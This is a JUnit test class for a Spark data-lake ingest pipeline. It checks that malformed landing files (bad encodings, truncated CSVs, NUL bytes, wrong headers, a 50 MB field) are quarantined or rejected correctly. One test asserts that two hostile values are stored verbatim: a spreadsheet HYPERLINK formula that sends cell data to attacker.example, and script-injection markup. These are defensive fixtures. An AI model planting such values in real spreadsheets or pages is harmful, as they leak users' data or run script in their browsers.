package io.commpulse.reliability;

import static org.apache.spark.sql.functions.col;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.commpulse.cli.CommPulse;
import io.commpulse.ingest.BronzeIngest;
import io.commpulse.lake.Lake;
import io.commpulse.schema.SchemaCatalog;
import io.commpulse.schema.TableContract;
import io.commpulse.testing.TestSpark;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Timestamp;
import java.time.Instant;
import java.time.YearMonth;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.apache.spark.sql.Row;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The hostile landing corpus of {@code src/test/resources/hostile/<source>/}: every file with the
 * outcome it must have. Files whose records are judged one by one are ingested together per source
 * and checked per {@code source_file}; files that must stop the batch are ingested alone. Record
 * counts are counted by hand from the files (not by Spark), so row conservation is checked against
 * an independent number.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {
  private static final YearMonth MONTH = YearMonth.of(2026, 9);
  private static final Instant NOW = Instant.parse("2026-11-01T00:00:00Z");
  private static final Path CORPUS =
      TestSpark.repoRoot().resolve("jobs/src/test/resources/hostile");

  /**
   * The generated runaway line: a 50 MB field in one line (not committed: written at test time).
   */
  private static final String BIG_LINE = "big_line.csv";

  private static final int BIG_FIELD_CHARS = 50 * 1024 * 1024;

  /**
   * A file whose records are judged one by one: how many it holds and how many land in quarantine,
   * by reason.
   */
  record RowsCase(String source, String file, int records, Map<String, Integer> quarantined) {
    int accepted() {
      return records - quarantined.values().stream().mapToInt(Integer::intValue).sum();
    }

    @Override
    public String toString() {
      return source + "/" + file;
    }
  }

  /** A file that must stop the batch with a one-line error containing {@code message}. */
  record ErrorCase(String source, String file, String message) {
    @Override
    public String toString() {
      return source + "/" + file;
    }
  }

  static List<RowsCase> rowsCases() {
    return List.of(
        new RowsCase("tickets", "truncated.csv", 3, Map.of("malformed", 1)),
        new RowsCase("tickets", "truncated_unquoted.csv", 2, Map.of("malformed", 1)),
        new RowsCase("tickets", "nul_bytes.csv", 3, Map.of("encoding", 2)),
        new RowsCase("tickets", "bom_utf8.csv", 2, Map.of()),
        new RowsCase("tickets", "crlf_lines.csv", 2, Map.of()),
        new RowsCase(
            "tickets",
            "timestamps.csv",
            7,
            Map.of("future_timestamp", 1, "too_early", 2, "wrong_type", 1)),
        new RowsCase("tickets", "negative_durations.csv", 3, Map.of("inconsistent", 2)),
        new RowsCase("tickets", "extra_missing_fields.csv", 3, Map.of("malformed", 2)),
        new RowsCase("tickets", "empty.csv", 0, Map.of()),
        new RowsCase("tickets", "header_only.csv", 0, Map.of()),
        new RowsCase(
            "survey_responses", "likert.csv", 7, Map.of("out_of_range", 3, "wrong_type", 1)),
        new RowsCase("survey_responses", "bom_utf8_crlf.csv", 1, Map.of()),
        new RowsCase("comm_log", "gbk.csv", 2, Map.of("encoding", 1)),
        // 216 has an unquoted CRLF inside a field: RFC 4180 ends the record there, so it is two
        // malformed records.
        new RowsCase("comm_log", "line_breaks.csv", 7, Map.of("malformed", 2)),
        new RowsCase("comm_log", "cr_only_lines.csv", 2, Map.of()),
        new RowsCase("comm_log", "formula_and_markup.csv", 6, Map.of()),
        new RowsCase("comm_log", BIG_LINE, 1, Map.of("out_of_range", 1)),
        new RowsCase(
            "social_comments",
            "markup.jsonl",
            10,
            Map.of("encoding", 1, "too_early", 1, "missing_required", 1, "malformed", 1)),
        new RowsCase("social_comments", "bom.jsonl", 2, Map.of()));
  }

  static List<ErrorCase> errorCases() {
    return List.of(
        new ErrorCase(
            "tickets", "utf16.csv", "the file is UTF-16 encoded; landing files must be UTF-8"),
        new ErrorCase(
            "tickets",
            "utf16be_nobom.csv",
            "the file is UTF-16 encoded; landing files must be UTF-8"),
        new ErrorCase(
            "tickets",
            "duplicated_header.csv",
            "duplicated header column [channel]; missing column [priority]"),
        new ErrorCase("tickets", "extra_column.csv", "unexpected column [agent_email]"),
        new ErrorCase("tickets", "missing_column.csv", "missing column [csat]"),
        new ErrorCase(
            "tickets",
            "reordered_header.csv",
            "columns are in a different order than the contract"));
  }

  private final SchemaCatalog catalog =
      SchemaCatalog.fromDirectory(TestSpark.repoRoot().resolve("schemas"));
  private Path work;
  private Lake lake;
  private final Map<String, BronzeIngest.Outcome> outcomes = new LinkedHashMap<>();
  private final Map<String, Long> acceptedByFile = new TreeMap<>();
  private final Map<String, Map<String, Integer>> quarantinedByFile = new TreeMap<>();

  @BeforeAll
  void ingestTheCorpus() throws IOException {
    work = TestSpark.tempDir("hostile");
    lake = new Lake(TestSpark.session(), work.resolve("lake").toString());
    Path landing = work.resolve("landing");
    for (RowsCase c : rowsCases()) {
      Path target = landing.resolve(c.source()).resolve(MONTH.toString()).resolve(c.file());
      Files.createDirectories(target.getParent());
      if (c.file().equals(BIG_LINE)) {
        writeBigLine(target);
      } else {
        Files.copy(CORPUS.resolve(c.source()).resolve(c.file()), target);
      }
    }
    BronzeIngest ingest = new BronzeIngest(lake, catalog, landing.toString());
    for (String source : rowsCases().stream().map(RowsCase::source).distinct().toList()) {
      outcomes.put(source, ingest.ingest(source, MONTH, NOW));
      for (Row r : bronze(source).groupBy("source_file").count().collectAsList()) {
        acceptedByFile.put(source + "/" + r.getString(0), r.getLong(1));
      }
      for (Row r :
          quarantine(source).groupBy("source_file", "reason_code").count().collectAsList()) {
        quarantinedByFile
            .computeIfAbsent(source + "/" + r.getString(0), f -> new TreeMap<>())
            .put(r.getString(1), (int) r.getLong(2));
      }
    }
  }

  /** One comm_log record whose topic is 50 MB, on one line without a final line break. */
  private static void writeBigLine(Path target) throws IOException {
    try (OutputStream out = Files.newOutputStream(target)) {
      out.write(
          ("log_id,logged_at,from_department,to_department,channel,topic,outcome,misinformation_flag,"
                  + "problem_category\nL2026090000299,2026-09-06 09:31:30,SALES,FIN,email,")
              .getBytes(StandardCharsets.UTF_8));
      byte[] chunk = "runaway export ".repeat(1024).getBytes(StandardCharsets.UTF_8);
      for (long written = 0; written < BIG_FIELD_CHARS; written += chunk.length) {
        out.write(chunk);
      }
      out.write(",understood,false,".getBytes(StandardCharsets.UTF_8));
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("rowsCases")
  void everyRecordEndsInExactlyOnePlaceWithTheExpectedReason(RowsCase c) {
    long accepted = acceptedByFile.getOrDefault(c.toString(), 0L);
    Map<String, Integer> quarantined = quarantinedByFile.getOrDefault(c.toString(), Map.of());
    assertEquals(new TreeMap<>(c.quarantined()), quarantined, c + ": quarantined rows by reason");
    assertEquals(c.accepted(), accepted, c + ": accepted rows");
    assertEquals(
        c.records(),
        accepted + quarantined.values().stream().mapToInt(Integer::intValue).sum(),
        c + ": row conservation against the hand count");
  }

  @Test
  void theAuditAddsUpForEverySource() {
    for (String source : outcomes.keySet()) {
      List<RowsCase> cases = rowsCases().stream().filter(c -> c.source().equals(source)).toList();
      BronzeIngest.Outcome outcome = outcomes.get(source);
      assertEquals(
          cases.stream().mapToInt(RowsCase::records).sum(), outcome.read(), source + " read");
      assertEquals(
          cases.stream().mapToInt(RowsCase::accepted).sum(),
          outcome.accepted(),
          source + " accepted");
      assertEquals(
          outcome.read(), outcome.accepted() + outcome.quarantined(), source + " conservation");
    }
  }

  @Test
  void timestampsWithAndWithoutOffsetsMeanTheSameInstant() {
    Map<String, Timestamp> created =
        bronze("tickets")
            .where(col("source_file").equalTo("timestamps.csv"))
            .select("ticket_id", "created_at")
            .collectAsList()
            .stream()
            .collect(Collectors.toMap(r -> r.getString(0), r -> r.getTimestamp(1)));
    Timestamp midnightUtc = Timestamp.from(Instant.parse("2026-09-10T00:00:00Z"));
    // +08:00 offset, no offset (the contract's Asia/Shanghai), and Z: all the same instant.
    assertEquals(
        Map.of(
            "T2026090000153",
            midnightUtc,
            "T2026090000154",
            midnightUtc,
            "T2026090000155",
            midnightUtc),
        created);
  }

  @Test
  void textIsStoredVerbatimWithLineBreaksFormulasAndMarkup() {
    Map<String, String> topics =
        bronze("comm_log").select("log_id", "topic").collectAsList().stream()
            .collect(Collectors.toMap(r -> r.getString(0), r -> String.valueOf(r.get(1))));
    assertEquals("first line\r\nsecond line", topics.get("L2026090000211"));
    assertEquals("first line\rsecond line", topics.get("L2026090000212"));
    assertEquals(
        "unquoted\rbare CR",
        topics.get("L2026090000214"),
        "a bare CR is not a record end in an LF file");
    assertEquals(
        "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")",
        topics.get("L2026090000221"));
    assertEquals(
        "<script>alert('x')</script><img src=x onerror=alert(1)>", topics.get("L2026090000225"));
    Row crlfRow = bronze("comm_log").where(col("log_id").equalTo("L2026090000215")).first();
    assertTrue(
        crlfRow.isNullAt(crlfRow.fieldIndex("problem_category")),
        "a CRLF row end in an LF file must not leave a CR in the last field");
  }

  @Test
  void noNulByteOrReplacementCharacterReachesBronze() {
    for (String source : outcomes.keySet()) {
      for (Row row : bronze(source).collectAsList()) {
        String text = row.mkString("|");
        assertFalse(text.contains("\u0000"), source + ": NUL in " + text);
        assertFalse(text.contains("\uFFFD"), source + ": replacement character in " + text);
      }
    }
  }

  @Test
  void theRunawayLineIsQuarantinedWithBoundedEvidence() {
    Row big = quarantine("comm_log").where(col("source_file").equalTo(BIG_LINE)).first();
    String raw = big.getString(big.fieldIndex("raw"));
    assertTrue(
        raw.length() < 70_000,
        "quarantine keeps a bounded excerpt, got " + raw.length() + " characters");
    assertTrue(raw.endsWith("characters]"), raw.substring(raw.length() - 80));
    assertTrue(
        big.getString(big.fieldIndex("reason")).startsWith("topic: value of "),
        big.getString(big.fieldIndex("reason")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("errorCases")
  void aFileThatCannotBeReadStopsTheBatchWithOneClearLineAndWritesNothing(ErrorCase c)
      throws IOException {
    Path landing = work.resolve("error-" + c.file());
    Path folder = landing.resolve(c.source()).resolve(MONTH.toString());
    Files.createDirectories(folder);
    Files.copy(CORPUS.resolve(c.source()).resolve(c.file()), folder.resolve(c.file()));
    TableContract bronze = catalog.table("bronze." + c.source());
    long bronzeVersion = lake.version(bronze);
    long quarantineVersion = lake.version(catalog.table("bronze.quarantine"));
    long auditVersion = lake.version(catalog.table("ops.ingest_audit"));

    CliResult result =
        CliResult.run(
            "ingest",
            "--source",
            c.source(),
            "--month",
            MONTH.toString(),
            "--landing",
            landing.toString(),
            "--lake",
            work.resolve("lake").toString());

    assertEquals(1, result.exitCode(), result.stderr());
    assertEquals(1, result.stderr().lines().count(), "one line: " + result.stderr());
    assertTrue(
        result
            .stderr()
            .startsWith("error: landing file " + c.source() + "/" + MONTH + "/" + c.file() + ": "),
        result.stderr());
    assertTrue(result.stderr().contains(c.message()), result.stderr());
    assertEquals(bronzeVersion, lake.version(bronze), "bronze untouched");
    assertEquals(
        quarantineVersion,
        lake.version(catalog.table("bronze.quarantine")),
        "quarantine untouched");
    assertEquals(auditVersion, lake.version(catalog.table("ops.ingest_audit")), "audit untouched");
  }

  private org.apache.spark.sql.Dataset<Row> bronze(String source) {
    return lake.read(catalog.table("bronze." + source))
        .where(col("month").equalTo(MONTH.toString()));
  }

  private org.apache.spark.sql.Dataset<Row> quarantine(String source) {
    return lake.read(catalog.table("bronze.quarantine"))
        .where(col("month").equalTo(MONTH.toString()).and(col("source").equalTo(source)));
  }

  /** The exit code and what the CLI printed on stderr, run in this JVM. */
  record CliResult(int exitCode, String stderr) {
    static synchronized CliResult run(String... args) {
      PrintStream original = System.err;
      ByteArrayOutputStream captured = new ByteArrayOutputStream();
      System.setErr(new PrintStream(captured, true, StandardCharsets.UTF_8));
      try {
        int code = CommPulse.execute(args);
        return new CliResult(
            code,
            captured
                .toString(StandardCharsets.UTF_8)
                .lines()
                .filter(l -> !l.contains(" WARN "))
                .collect(Collectors.joining("\n")));
      } finally {
        System.setErr(original);
      }
    }
  }
}
